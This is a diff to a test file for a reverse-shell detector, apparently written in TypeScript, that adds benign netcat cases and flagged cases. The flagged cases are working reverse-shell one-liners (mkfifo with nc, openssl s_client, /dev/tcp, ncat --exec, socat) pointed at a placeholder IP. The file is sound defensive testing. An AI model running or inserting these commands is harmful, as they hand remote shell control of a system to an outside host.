@@ -3,6 +3,10 @@ import { testDetector } from "../support/detector-tester.ts";
 
 testDetector(openShell, {
   clean: [
+    "mkfifo p; cat p | nc localhost 4444",
+    "mkfifo p; cat notes.txt > p & cat p",
+    { run: "cat a.sh | sh | curl -d @- https://example.test > out.txt", files: { "a.sh": "ls" } },
+    "nc -zv host.example.test 22",
     "nc -z localhost 80",
     "nc -l 4444",
     "python3 -m http.server --bind 127.0.0.1",
@@ -15,6 +19,16 @@ testDetector(openShell, {
     "echo 'nc -e /bin/sh collect.example.test 4444'",
   ],
   flagged: [
+    {
+      run: "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f",
+      findings: [{ messageId: "reverse", at: "203.0.113.5" }],
+    },
+    {
+      run: "mkfifo p; sh < p | openssl s_client -quiet -connect 203.0.113.5:4444 > p",
+      findings: ["reverse"],
+    },
+    { run: "exec 5<>/dev/tcp/203.0.113.5/4444; bash <&5 >&5", findings: ["reverse"] },
+    { run: "ncat --exec /bin/bash 203.0.113.5 4444", findings: ["reverse"] },
     { run: "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", findings: ["reverse"] },
     { run: "nc -e /bin/sh collect.example.test 4444", findings: ["reverse"] },
     { run: "socat TCP:203.0.113.5:4444 EXEC:/bin/bash", findings: ["reverse"] },
